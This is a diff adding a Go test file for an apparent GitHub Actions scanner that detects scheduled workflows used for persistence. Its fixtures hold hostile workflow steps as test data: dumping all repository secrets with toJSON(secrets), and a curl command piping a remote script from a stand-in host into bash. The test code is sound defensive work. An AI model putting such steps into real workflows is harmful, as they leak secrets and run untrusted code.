@@ -0,0 +1,118 @@
+package scanner
+
+import (
+	"testing"
+
+	"github.com/rslater/muaddib/internal/github"
+	"github.com/rslater/muaddib/internal/vuln"
+)
+
+func TestCheckPersistenceWorkflows(t *testing.T) {
+	testCases := []struct {
+		name        string
+		content     string
+		wantPattern string // "" means the workflow must not be flagged
+	}{
+		{
+			name: "cron with worm payload",
+			content: `name: sync
+on:
+  schedule:
+    - cron: "*/30 * * * *"
+jobs:
+  sync:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ toJSON(secrets) }}" > secrets.json
+`,
+			wantPattern: "schedule + payload: toJSON(secrets)",
+		},
+		{
+			name: "cron with download and execute",
+			content: `on:
+  schedule:
+    - cron: "0 * * * *"
+jobs:
+  update:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl -fsSL https://example.invalid/x.sh | bash
+`,
+			wantPattern: "schedule + remote code: remote script piped to an interpreter",
+		},
+		{
+			name: "cron with write-all permissions",
+			content: `on:
+  schedule:
+    - cron: "0 3 * * *"
+permissions: write-all
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm test
+`,
+			wantPattern: "schedule + permissions: write-all",
+		},
+		{
+			name: "benign nightly build",
+			content: `name: nightly
+on:
+  schedule:
+    - cron: "0 2 * * *"
+  workflow_dispatch:
+permissions:
+  contents: read
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: npm ci && npm test
+`,
+		},
+		{
+			name: "payload without a schedule",
+			content: `on: [push]
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: node bundle.js
+`,
+		},
+		{
+			name:    "invalid YAML",
+			content: "on: [schedule\n",
+		},
+	}
+
+	scanner := NewScanner(vuln.NewVulnDB(), true)
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			found := scanner.CheckPersistenceWorkflows([]*github.WorkflowFile{
+				{RepoName: "test-org/test-repo", Path: ".github/workflows/nightly.yml", Content: tc.content},
+			})
+
+			if tc.wantPattern == "" {
+				if len(found) != 0 {
+					t.Errorf("expected no persistence workflow, got %q", found[0].Pattern)
+				}
+				return
+			}
+			if len(found) != 1 {
+				t.Fatalf("expected 1 persistence workflow, got %d", len(found))
+			}
+			if found[0].Pattern != tc.wantPattern {
+				t.Errorf("expected pattern %q, got %q", tc.wantPattern, found[0].Pattern)
+			}
+			if found[0].Kind != WorkflowKindPersistence {
+				t.Errorf("expected kind %s, got %s", WorkflowKindPersistence, found[0].Kind)
+			}
+			if len(found[0].Schedules) != 1 {
+				t.Errorf("expected the cron schedule to be recorded, got %v", found[0].Schedules)
+			}
+		})
+	}
+}